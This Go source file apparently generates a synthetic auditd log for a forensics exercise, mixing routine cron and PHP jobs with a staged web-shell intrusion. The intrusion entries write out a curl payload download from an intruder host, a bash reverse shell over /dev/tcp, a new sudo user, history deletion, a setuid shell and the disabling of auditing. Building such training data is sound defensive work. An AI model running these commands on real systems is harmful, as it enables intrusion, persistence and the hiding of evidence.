package demo

import (
	"encoding/hex"
	"fmt"
	"strings"
	"time"
)

// auditLog is /var/log/audit/audit.log of web1: the programs that were started, until auditing is switched off.
func auditLog(n night) []byte {
	a := &auditJournal{journal: newJournal(n, 3), pid: 4100}
	a.ordinary()
	a.intrusion()
	serial := 7000
	for i, e := range a.sorted() {
		serial += 1 + i%2
		a.entries[i].text = strings.ReplaceAll(e.text, "SERIAL", fmt.Sprint(serial))
	}
	return a.lines()
}

type auditJournal struct {
	*journal
	pid int
}

// run is a program that somebody starts.
type run struct {
	user    string // root, www-data, deploy
	session int    // 0: of no login
	exe     string
	args    []string
}

func (a *auditJournal) exec(t time.Time, r run) {
	a.pid += 1 + a.IntN(9)
	uid := map[string]int{"root": 0, "www-data": 33, "anna": 1000, "deploy": 1001}[r.user]
	auid, tty := "4294967295", "(none)"
	ses := "4294967295"
	if r.session > 0 {
		auid, tty, ses = "1000", "pts0", fmt.Sprint(r.session)
		if r.session == 411 {
			auid, tty = "1001", "pts1"
		}
	}
	id := fmt.Sprintf("audit(%d.%03d:SERIAL)", t.Unix(), t.Nanosecond()/1e6)
	comm := r.exe[strings.LastIndexByte(r.exe, '/')+1:]
	var b strings.Builder
	fmt.Fprintf(&b, "node=web1 type=SYSCALL msg=%s: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c0 a1=55d0e0 a2=55d100 a3=8 items=2 ppid=%d pid=%d auid=%s uid=%d gid=%[5]d euid=%[5]d suid=%[5]d fsuid=%[5]d egid=%[5]d sgid=%[5]d fsgid=%[5]d tty=%[6]s ses=%[7]s comm=\"%[8]s\" exe=\"%[9]s\" key=\"exec\"\x1dARCH=x86_64 SYSCALL=execve AUID=%[10]q UID=%[11]q GID=%[11]q EUID=%[11]q\n",
		id, a.pid-1, a.pid, auid, uid, tty, ses, comm, r.exe, loginName(auid), r.user)
	fmt.Fprintf(&b, "node=web1 type=EXECVE msg=%s: argc=%d", id, len(r.args))
	for i, arg := range r.args {
		if strings.ContainsAny(arg, " \"") {
			fmt.Fprintf(&b, " a%d=%s", i, strings.ToUpper(hex.EncodeToString([]byte(arg))))
		} else {
			fmt.Fprintf(&b, " a%d=%q", i, arg)
		}
	}
	fmt.Fprintf(&b, "\nnode=web1 type=CWD msg=%s: cwd=\"/\"", id)
	a.add(t, "%s", b.String())
}

// loginName is what auditd writes for the user who had logged in.
func loginName(auid string) string {
	switch auid {
	case "1000":
		return "anna"
	case "1001":
		return "deploy"
	}
	return "unset"
}

func (a *auditJournal) ordinary() {
	for t := a.dusk().Add(time.Minute); t.Before(a.at("27:10:00")); t = t.Add(5 * time.Minute) {
		a.exec(a.some(t), run{"www-data", 0, "/usr/bin/php8.2", []string{"/usr/bin/php", "/srv/shop/bin/queue", "run"}})
	}
	for t := a.dusk().Add(17 * time.Minute); t.Before(a.at("27:10:00")); t = t.Add(time.Hour) {
		a.exec(a.some(t), run{"root", 0, "/usr/bin/run-parts", []string{"run-parts", "--report", "/etc/cron.hourly"}})
		a.exec(a.some(t.Add(time.Second)), run{"root", 0, "/usr/sbin/logrotate", []string{"/usr/sbin/logrotate", "/etc/logrotate.conf"}})
	}
	for _, clock := range []string{"16:13:20", "18:41:40", "21:56:00"} {
		t := a.at(clock)
		for i, args := range [][]string{{"apt-get", "update"}, {"systemctl", "status", "nginx"}, {"tail", "-n", "200", "/var/log/nginx/error.log"}} {
			a.exec(a.some(t.Add(time.Duration(i*95)*time.Second)), run{"root", 300 + i, "/usr/bin/" + args[0], args})
		}
	}
}

// intrusion is what the web shell starts, and later the session of deploy.
func (a *auditJournal) intrusion() {
	for _, c := range []struct {
		clock, exe string
		args       []string
	}{
		{"23:20:55", "/usr/bin/id", []string{"id"}},
		{"23:21:03", "/usr/bin/uname", []string{"uname", "-a"}},
		{"23:21:20", "/usr/bin/cat", []string{"cat", "/etc/passwd"}},
		{"23:22:02", "/usr/bin/ls", []string{"ls", "-la", "/srv/shop"}},
		{"23:23:15", "/usr/bin/curl", []string{"curl", "-o", "/dev/shm/kw", "http://" + intruder + "/kw"}},
		{"23:24:02", "/usr/bin/chmod", []string{"chmod", "755", "/dev/shm/kw"}},
		{"23:24:10", "/dev/shm/kw", []string{"/dev/shm/kw"}},
		{"23:24:40", "/usr/bin/bash", []string{"bash", "-c", "bash -i >& /dev/tcp/" + intruder + "/4444 0>&1"}},
	} {
		a.exec(a.some(a.at(c.clock)), run{"www-data", 0, c.exe, c.args})
	}
	for _, c := range []struct {
		clock, exe string
		args       []string
	}{
		{"26:15:52", "/usr/bin/id", []string{"id"}},
		{"26:16:20", "/usr/bin/bash", []string{"/bin/bash"}},
		{"26:17:04", "/usr/sbin/useradd", []string{"useradd", "-m", "-s", "/bin/bash", "support2"}},
		{"26:17:25", "/usr/sbin/usermod", []string{"usermod", "-aG", "sudo", "support2"}},
		{"26:22:12", "/usr/bin/rm", []string{"rm", "-f", "/root/.bash_history"}},
		{"26:23:40", "/usr/bin/chmod", []string{"chmod", "4755", "/var/tmp/.sh"}},
	} {
		a.exec(a.some(a.at(c.clock)), run{"root", 411, c.exe, c.args})
	}
	t := a.at("27:10:02")
	a.add(t.Add(500*time.Millisecond), "node=web1 type=CONFIG_CHANGE msg=audit(%d.500:SERIAL): auid=1001 ses=411 op=remove_rule key=\"exec\" list=4 res=1", t.Unix())
	a.add(t.Add(900*time.Millisecond), "node=web1 type=DAEMON_END msg=audit(%d.900:SERIAL): op=terminate auid=1001 uid=0 ses=411 pid=1 res=success", t.Unix())
}
